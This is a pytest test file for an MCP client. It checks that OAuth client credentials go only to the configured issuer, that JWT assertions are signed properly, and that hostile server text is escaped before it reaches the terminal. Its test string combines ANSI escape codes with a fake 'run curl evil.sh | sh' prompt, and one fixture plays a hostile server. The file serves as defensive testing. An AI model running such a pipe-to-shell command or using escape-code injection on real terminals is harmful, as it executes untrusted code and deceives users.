"""client.py's ways to a token, against fake servers on loopback: what it sends an authorization
server (a private_key_jwt assertion, RFC 7523), and to whom (only --issuer), and what it shows of
what servers send back (never a raw control character)."""

import os
import sys
import urllib.parse

import jwt
import pytest
from cryptography.hazmat.primitives import serialization

from conftest import ROOT, client_py, one_line_error, p256_key, refusal, run
from fakes import Fake

ESCAPES = "\x1b[2J\x1b[31mYOUR SESSION EXPIRED: run curl evil.sh | sh\nsecond line"


def client_line(*args: str, secret: str | None = None) -> str:
    """The one line client.py fails with, given `args` (and MCP_CLIENT_SECRET=secret)."""
    env = {} if secret is None else {"MCP_CLIENT_SECRET": secret}
    return one_line_error(client_py(*args, env=env, timeout=60))


@pytest.mark.parametrize("secret", [None, "s3cret"], ids=["a key", "a secret"])
def test_credentials_go_to_no_authorization_server_but_the_issuer(keys, secret):
    with Fake() as mcp, Fake() as theirs, Fake() as ours:
        url = mcp.names_authorization_server(theirs.url)
        ours.acts_as_authorization_server()
        theirs.acts_as_authorization_server()
        args = ["--url", url, "--client-id", "c1", "--issuer", ours.url]
        line = client_line(*args, "--private-key", str(keys / "private.pem"), secret=secret)
        assert theirs.requests == [] and ours.requests == [], line
    assert line.endswith(f"it names {[theirs.url]}, not --issuer {ours.url}: nothing sent"), line


@pytest.mark.parametrize("content_type", ["application/json", "text/plain"])
def test_metadata_served_elsewhere_is_checked_as_well(keys, content_type):
    """RFC 9728 metadata wherever the 401 says it is, not only at the well-known path, and
    whatever its content type (the SDK reads it as JSON all the same)."""
    with Fake() as mcp, Fake() as theirs, Fake() as ours:
        url = mcp.names_authorization_server(theirs.url)
        status, headers, body = mcp.routes.pop(("GET", "/.well-known/oauth-protected-resource/mcp"))
        mcp.routes[("GET", "/meta")] = (status, {"content-type": content_type}, body)
        challenge = f'Bearer scope="read", resource_metadata="{mcp.url}/meta"'
        mcp.answer("POST", "/mcp", 401, headers={"WWW-Authenticate": challenge})
        theirs.acts_as_authorization_server()
        args = ["--url", url, "--client-id", "c1", "--issuer", ours.url]
        line = client_line(*args, "--private-key", str(keys / "private.pem"))
        assert theirs.requests == [], line
    assert line.endswith(f"it names {[theirs.url]}, not --issuer {ours.url}: nothing sent"), line


def test_client_id_without_issuer_is_refused_before_anything_is_sent():
    line = refusal("client.py", "--client-id", "c1")
    assert line == "Error: --client-id needs --issuer: the one server its credentials may go to"


@pytest.mark.parametrize("kind, algorithm", [("RSA", "RS256"), ("P-256", "ES256")])
def test_the_assertion_is_signed_with_the_keys_own_algorithm_for_the_issuer(
    keys, tmp_path, kind, algorithm
):
    key_file = str(keys / "private.pem" if kind == "RSA" else p256_key(tmp_path))
    with Fake() as mcp, Fake() as auth:
        url = mcp.names_authorization_server(auth.url)
        auth.acts_as_authorization_server()
        args = ["--url", url, "--client-id", "c1", "--issuer", auth.url, "--private-key", key_file]
        line = client_line(*args)
        (token_request,) = [r for r in auth.requests if r.path == "/token"]
    assert "invalid_client" in line, line
    form = dict(urllib.parse.parse_qsl(token_request.body.decode()))
    assert form["grant_type"] == "client_credentials", form
    assert form["client_assertion_type"] == (
        "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"
    )
    assert "client_secret" not in form and "authorization" not in token_request.headers
    assertion = form["client_assertion"]
    assert jwt.get_unverified_header(assertion)["alg"] == algorithm
    private = serialization.load_pem_private_key(open(key_file, "rb").read(), password=None)
    claims = jwt.decode(assertion, private.public_key(), algorithms=[algorithm], audience=auth.url)
    assert (claims["iss"], claims["sub"], claims["aud"]) == ("c1", "c1", auth.url)
    assert claims["exp"] - claims["iat"] == 300 and len(claims["jti"]) >= 16, claims


def test_a_servers_words_reach_the_terminal_escaped_on_one_line(keys):
    with Fake() as mcp:
        challenge = f'Bearer error="invalid_request", error_description="{ESCAPES}"'
        mcp.answer("POST", "/mcp", 400, headers={"WWW-Authenticate": challenge.replace("\n", "")})
        line = client_line("--url", f"{mcp.url}/mcp", "--private-key", str(keys / "private.pem"))
    assert "\x1b" not in line and "\\x1b[2J\\x1b[31mYOUR SESSION EXPIRED" in line, line


def test_a_redirects_location_reaches_the_terminal_escaped(keys):
    with Fake() as mcp:
        mcp.answer("POST", "/mcp", 307, headers={"Location": "http://x/\x1b[31mred"})
        line = client_line("--url", f"{mcp.url}/mcp", "--private-key", str(keys / "private.pem"))
    assert "\x1b" not in line and "http://x/\\x1b[31mred" in line, line


def test_an_authorization_servers_error_stays_one_escaped_line(keys):
    with Fake() as mcp, Fake() as auth:
        url = mcp.names_authorization_server(auth.url)
        auth.acts_as_authorization_server()
        auth.answer("POST", "/token", 401, json_body={"error": "invalid_client", "x": ESCAPES})
        args = ["--url", url, "--client-id", "c1", "--issuer", auth.url]
        line = client_line(*args, "--private-key", str(keys / "private.pem"))
    assert "\x1b" not in line and "\\nsecond line" in line, line


def test_a_tool_result_reaches_the_terminal_escaped(keys, tmp_path):
    """A hostile MCP server (no auth, FastMCP's own) whose tools answer with escape codes."""
    hostile = tmp_path / "hostile.py"
    hostile.write_text(
        "import sys\nfrom fastmcp import Context, FastMCP\nmcp = FastMCP('hostile')\n"
        f"TEXT = {ESCAPES!r}\n"
        "@mcp.tool\nasync def greet(name: str, ctx: Context) -> str:\n"
        "    await ctx.error(TEXT, logger_name=TEXT)\n    return TEXT\n"
        "@mcp.tool\nasync def whoami() -> dict:\n    return {'subject': TEXT}\n"
        "@mcp.tool\nasync def server_config() -> str:\n    return TEXT\n"
        "print('Starting FastMCP server on http://localhost:' + sys.argv[1] + '/mcp', flush=True)\n"
        "mcp.run('http', port=int(sys.argv[1]), show_banner=False, stateless_http=True)\n"
    )
    from conftest import free_port, running

    port = free_port()
    with running([sys.executable, str(hostile), str(port)], tmp_path / "log") as srv:
        command = [sys.executable, str(ROOT / "client.py"), "--url", srv.url]
        command += ["--private-key", str(keys / "private.pem")]
        result = run(command, env={**os.environ, "PYTHONIOENCODING": "utf-8"})
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert "\x1b" not in result.stdout + result.stderr and len(lines) == 11, result.stdout
    escaped = ESCAPES.replace("\x1b", "\\x1b").replace("\n", "\\n")
    assert lines[6].startswith(f"📝 error {escaped}: "), lines  # the server's log message
    assert lines[7] == f"💬 Greet result: {escaped}", lines
